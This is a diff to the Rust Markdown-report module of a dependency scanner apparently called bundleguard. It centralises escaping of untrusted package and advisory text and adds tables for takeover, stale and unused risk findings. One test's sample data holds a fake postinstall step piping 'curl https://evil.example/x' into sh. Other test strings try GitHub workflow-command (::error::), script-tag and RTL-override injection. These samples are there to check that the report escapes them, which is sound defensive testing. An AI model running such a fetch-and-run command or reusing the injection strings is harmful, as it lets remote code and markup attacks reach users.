@@ -1,13 +1,14 @@
 //! The Markdown report (GitHub Flavored Markdown, <https://github.github.com/gfm/>): a compact
 //! summary for `$GITHUB_STEP_SUMMARY` and pull-request comments. Every piece of package and
-//! advisory text is untrusted: it is escaped so it cannot inject HTML, links, mentions or table
-//! cells, and it never starts a line (so no `::` workflow command). The output stays under
-//! GitHub's 1 MiB job-summary limit, truncated with a note.
+//! advisory text is untrusted: it goes through [`super::escape`] so it cannot inject HTML, links,
+//! autolinks, mentions or table cells, and it never starts a line (so no `::` workflow command).
+//! The output stays under GitHub's 1 MiB job-summary limit, truncated with a note.
 
 use std::fmt::Write as _;
 use std::io::{self, Write};
 
-use crate::finding::{BundleReport, Finding, Level, ScanResult, Status, Verdict};
+use super::escape;
+use crate::finding::{BundleReport, Finding, FindingKind, Level, RiskFinding, ScanResult, Status, Verdict};
 
 /// GitHub's limit for one step summary.
 const MAX_BYTES: usize = 1024 * 1024;
@@ -28,65 +29,14 @@ pub(super) fn osv_url(id: &str) -> Option<String> {
     safe.then(|| format!("https://osv.dev/vulnerability/{id}"))
 }
 
-/// Escapes untrusted text for a Markdown table cell or line: Markdown punctuation is
-/// backslash-escaped, HTML characters become entities, newlines and tabs become spaces, other
-/// control characters are dropped, and `@` cannot start a mention.
-pub(super) fn escape(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        match c {
-            '\n' | '\r' | '\t' => out.push(' '),
-            c if c.is_control() => {}
-            '|' | '`' | '[' | ']' | '*' | '_' | '\\' | '~' | '#' | '!' => {
-                out.push('\\');
-                out.push(c);
-            }
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '&' => out.push_str("&amp;"),
-            // A word joiner after `@` keeps `@someone` from notifying anyone.
-            '@' => out.push_str("@\u{2060}"),
-            c => out.push(c),
-        }
-    }
-    out
-}
-
-/// Untrusted text as a code span (package names, versions and paths read exactly, with no
-/// mention, link or HTML): control characters dropped, `|` escaped for the table, and the fence
-/// one backtick longer than any run of backticks inside.
-fn code(text: &str) -> String {
-    let text: String = text
-        .chars()
-        .filter_map(|c| if c.is_control() { c.is_whitespace().then_some(' ') } else { Some(c) })
-        .collect::<String>()
-        .replace('|', "\\|");
-    let text = text.trim();
-    if text.is_empty() {
-        return String::new();
-    }
-    let longest_run = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
-    let fence = "`".repeat(longest_run + 1);
-    let pad = if text.starts_with('`') || text.ends_with('`') { " " } else { "" };
-    format!("{fence}{pad}{text}{pad}{fence}")
-}
-
 /// `text` cut to `max` characters (with an ellipsis), as a code span.
 fn code_short(text: &str, max: usize) -> String {
-    if text.chars().count() > max {
-        code(&format!("{}…", text.chars().take(max).collect::<String>()))
-    } else {
-        code(text)
-    }
+    escape::markdown_code(&escape::cap(text, max))
 }
 
 /// `text` cut to `max` characters (with an ellipsis), then escaped.
 fn escape_short(text: &str, max: usize) -> String {
-    if text.chars().count() > max {
-        escape(&format!("{}…", text.chars().take(max).collect::<String>()))
-    } else {
-        escape(text)
-    }
+    escape::markdown(&escape::cap(text, max))
 }
 
 pub fn render(result: &ScanResult, out: &mut dyn Write) -> io::Result<()> {
@@ -101,9 +51,10 @@ pub fn render(result: &ScanResult, out: &mut dyn Write) -> io::Result<()> {
         }
     }
     if !clean.is_empty() {
-        let names: Vec<String> = clean.iter().map(|b| code(&b.path)).collect();
+        let names: Vec<String> = clean.iter().map(|b| escape::markdown_code(&b.path)).collect();
         doc.push(&format!("✅ No known vulnerabilities in {} bundles: {}\n\n", clean.len(), list(&names, 50)));
     }
+    risk_sections(result, &mut doc);
     problems(result, &mut doc);
     out.write_all(doc.finish().as_bytes())
 }
@@ -161,7 +112,8 @@ fn header(result: &ScanResult, doc: &mut Doc) {
         Verdict::Fail => ("❌", "failed"),
         Verdict::Incomplete => ("⚠️", "incomplete"),
     };
-    let count = |s: &str| result.findings().filter(|(_, f)| f.status.as_str() == s).count();
+    let statuses = || result.findings().map(|(_, f)| &f.status).chain(shown_risks(result).map(|(_, r)| &r.status));
+    let count = |s: &str| statuses().filter(|status| status.as_str() == s).count();
     let total = result.findings().count();
     let mut line = format!(
         "**{} gating** at or above {} · {total} findings in {} bundles",
@@ -175,6 +127,10 @@ fn header(result: &ScanResult, doc: &mut Doc) {
             let _ = write!(line, " · {n} {status}");
         }
     }
+    let risks = shown_risks(result).count();
+    if risks > 0 {
+        let _ = write!(line, " · {risks} risk findings");
+    }
     if !result.include_dev {
         line.push_str(" · dev dependencies do not gate");
     }
@@ -186,6 +142,73 @@ fn header(result: &ScanResult, doc: &mut Doc) {
         let _ = write!(line, " · {not_read} functions not read");
     }
     doc.push(&format!("## {icon} bundleguard: {word}\n\n{line}\n\n"));
+    evaluation(result, doc);
+}
+
+/// One line for the packages the advisory match could not evaluate, one for the risk signals'
+/// coverage; nothing when there is nothing to say.
+fn evaluation(result: &ScanResult, doc: &mut Doc) {
+    if !result.not_evaluated.is_empty() {
+        doc.push(&format!(
+            "⚠️ **Not evaluated**: {} packages could not be checked against the advisories, so the scan is \
+             incomplete (the JSON report names them and says why).\n\n",
+            result.not_evaluated.len()
+        ));
+    }
+    if !result.coverage.is_empty() {
+        let parts: Vec<String> = result
+            .coverage
+            .iter()
+            .map(|c| format!("{} {} of {} packages", escape::markdown_code(c.code.as_str()), c.evaluated, c.total))
+            .collect();
+        doc.push(&format!("**Coverage** (packages each signal could be evaluated for): {}\n\n", parts.join(", ")));
+    }
+}
+
+/// The risk findings the Markdown report shows: stale, takeover and unused (hygiene notes are
+/// in the JSON and SARIF reports).
+fn shown_risks(result: &ScanResult) -> impl Iterator<Item = (&BundleReport, &RiskFinding)> {
+    result.risks().filter(|(_, r)| r.code.kind() != FindingKind::Hygiene)
+}
+
+const RISK_HEAD: &str = "| Bundle | Package | Code | Message | Status |\n| --- | --- | --- | --- | --- |\n";
+
+/// One table per kind of risk finding, worst kinds first.
+fn risk_sections(result: &ScanResult, doc: &mut Doc) {
+    for (kind, title) in [
+        (FindingKind::Takeover, "Takeover signals"),
+        (FindingKind::Stale, "Stale packages"),
+        (FindingKind::Unused, "Unused packages"),
+    ] {
+        let risks: Vec<(&BundleReport, &RiskFinding)> =
+            shown_risks(result).filter(|(_, r)| r.code.kind() == kind).collect();
+        if risks.is_empty() {
+            continue;
+        }
+        if !doc.push(&format!("### {title} ({})\n\n{RISK_HEAD}", risks.len())) {
+            doc.skipped += risks.len();
+            continue;
+        }
+        for (b, r) in risks {
+            doc.row(&risk_row(b, r));
+        }
+        doc.close("\n");
+    }
+}
+
+fn risk_row(b: &BundleReport, r: &RiskFinding) -> String {
+    let package =
+        r.package.as_ref().map(|p| escape::markdown_code(&format!("{}@{}", p.name, p.version))).unwrap_or_default();
+    let status = match r.status {
+        Status::Info => status(&r.status),
+        _ => format!("{}, {}", severity(r.level), status(&r.status)),
+    };
+    format!(
+        "| {} | {package} | {} | {} | {status} |\n",
+        escape::markdown(&b.name),
+        escape::markdown_code(r.code.as_str()),
+        escape_short(r.message.trim(), MAX_CELL_CHARS),
+    )
 }
 
 fn bundle_section(bundle: &BundleReport, doc: &mut Doc) {
@@ -202,9 +225,9 @@ fn bundle_section(bundle: &BundleReport, doc: &mut Doc) {
     let shown = gating.min(VISIBLE_ROWS);
     let heading = format!(
         "### {} — {} ({}, {} packages)\n\n",
-        escape(&bundle.name),
-        code(&bundle.path),
-        escape(bundle.format.as_str()),
+        escape::markdown(&bundle.name),
+        escape::markdown_code(&bundle.path),
+        escape::markdown(bundle.format.as_str()),
         bundle.graph.len()
     );
     if !doc.push(&heading) {
@@ -251,11 +274,15 @@ fn folded_summary(folded: &[&Finding], more: bool) -> String {
 
 fn row(f: &Finding) -> String {
     let id = match osv_url(&f.advisory.id) {
-        Some(url) => format!("[{}]({url})", escape(&f.advisory.id)),
-        None => escape(&f.advisory.id),
+        Some(url) => format!("[{}]({url})", escape::markdown(&f.advisory.id)),
+        None => escape::markdown(&f.advisory.id),
     };
-    let package = code(&format!("{}@{}", f.package.name, f.package.version));
-    let fix = if f.advisory.fixed.is_empty() { "none known".to_owned() } else { code(&f.advisory.fixed.join(", ")) };
+    let package = escape::markdown_code(&format!("{}@{}", f.package.name, f.package.version));
+    let fix = if f.advisory.fixed.is_empty() {
+        "none known".to_owned()
+    } else {
+        escape::markdown_code(&f.advisory.fixed.join(", "))
+    };
     let path = match f.paths.first() {
         Some(path) => {
             let more = if f.paths.len() > 1 { format!(" (+{})", f.paths.len() - 1) } else { String::new() };
@@ -284,7 +311,7 @@ fn status(status: &Status) -> String {
     match status {
         Status::Gating => "**gating**".to_owned(),
         Status::Ignored { reason, until, .. } => {
-            let until = until.as_ref().map(|u| format!(" until {}", escape(u))).unwrap_or_default();
+            let until = until.as_ref().map(|u| format!(" until {}", escape::markdown(u))).unwrap_or_default();
             format!("ignored{until}: {}", escape_short(reason, MAX_CELL_CHARS))
         }
         other => other.as_str().to_owned(),
@@ -302,13 +329,17 @@ fn list(items: &[String], max: usize) -> String {
 fn problems(result: &ScanResult, doc: &mut Doc) {
     if !result.errors.is_empty() && doc.push("#### Files that could not be read\n\n") {
         for e in &result.errors {
-            doc.push(&format!("- {}: {}\n", code(e.path.as_deref().unwrap_or_default()), escape(&e.message)));
+            doc.push(&format!(
+                "- {}: {}\n",
+                escape::markdown_code(e.path.as_deref().unwrap_or_default()),
+                escape::markdown(&e.message)
+            ));
         }
         doc.push("\n");
     }
     if !result.warnings.is_empty() && doc.push("#### Warnings\n\n") {
         for w in &result.warnings {
-            doc.push(&format!("- {}\n", escape(&w.to_string())));
+            doc.push(&format!("- {}\n", escape::markdown(&w.to_string())));
         }
         doc.push("\n");
     }
@@ -331,29 +362,6 @@ mod tests {
     #[test]
     fn deterministic() {
         assert_eq!(render_string(&sample::result()), render_string(&sample::result()));
-    }
-
-    #[test]
-    fn escapes_untrusted_text() {
-        assert_eq!(escape("a|b"), "a\\|b");
-        assert_eq!(escape("<script>x</script>"), "&lt;script&gt;x&lt;/script&gt;");
-        assert_eq!(
-            escape("[a](http://x) *b* _c_ `d` ~e~ \\"),
-            "\\[a\\](http://x) \\*b\\* \\_c\\_ \\`d\\` \\~e\\~ \\\\"
-        );
-        assert_eq!(escape("one\ntwo\r\nthree\u{1b}[31m\u{7}"), "one two  three\\[31m");
-        assert_eq!(escape("&amp; @admin"), "&amp;amp; @\u{2060}admin");
-        assert_eq!(escape("\n::error::x"), " ::error::x");
-    }
-
-    #[test]
-    fn code_spans() {
-        assert_eq!(code("@aws-sdk/client-s3@3.0.0"), "`@aws-sdk/client-s3@3.0.0`");
-        assert_eq!(code("a|b <i>"), "`a\\|b <i>`");
-        assert_eq!(code("x`y``z"), "```x`y``z```");
-        assert_eq!(code("`edge`"), "`` `edge` ``");
-        assert_eq!(code("line\nbreak\u{1b}"), "`line break`");
-        assert_eq!(code("\u{7}"), "");
     }
 
     #[test]
@@ -383,6 +391,36 @@ mod tests {
                 assert_eq!(unescaped_pipes, 8, "7 cells: {line}");
             }
         }
+    }
+
+    #[test]
+    fn risk_findings_grouped_by_kind() {
+        let text = render_string(&sample::with_risks());
+        assert!(text.starts_with("## ⚠️ bundleguard: incomplete"), "{text}");
+        assert!(text.contains("· 5 risk findings ·"), "hygiene notes are not counted here: {text}");
+        assert!(text.contains("**3 gating**"), "the gating takeover signal counts: {text}");
+        assert!(text.contains("⚠️ **Not evaluated**: 1 packages could not be checked"), "{text}");
+        assert!(text.contains("**Coverage** (packages each signal could be evaluated for): `takeover/new-publisher` 812 of 3181 packages\n"), "{text}");
+        let takeover = text.find("### Takeover signals (2)").expect("takeover section");
+        let stale = text.find("### Stale packages (2)").expect("stale section");
+        let unused = text.find("### Unused packages (1)").expect("unused section");
+        assert!(takeover < stale && stale < unused);
+        assert!(!text.contains("dev-shipped"), "hygiene stays out of the summary");
+        assert!(text.contains(
+            "| api | `express@4.17.1` | `takeover/install-script-added` | postinstall \\`curl https`:`//evil.example/x \\| sh\\` \\:\\:error\\:\\:pwned \\u{202e}&lt;script&gt; | 🟧 high, **gating** |\n"
+        ), "{text}");
+        assert!(
+            text.contains(
+                "| worker | `pyyaml@5.3` | `stale/yanked` | stale/yanked on pyyaml | 🟨 medium, below-threshold |"
+            ),
+            "{text}"
+        );
+        assert!(text.contains("| `unused/declared` | unused/declared on jest | info |"), "{text}");
+        for line in text.lines().filter(|l| l.starts_with("| ") && !l.starts_with("| ---") && l.contains('/')) {
+            let cells = line.match_indices('|').filter(|(i, _)| !line[..*i].ends_with('\\')).count();
+            assert!(cells == 6 || cells == 8, "{line}");
+        }
+        assert!(!text.contains('\u{202e}') && !text.contains("<script"));
     }
 
     #[test]
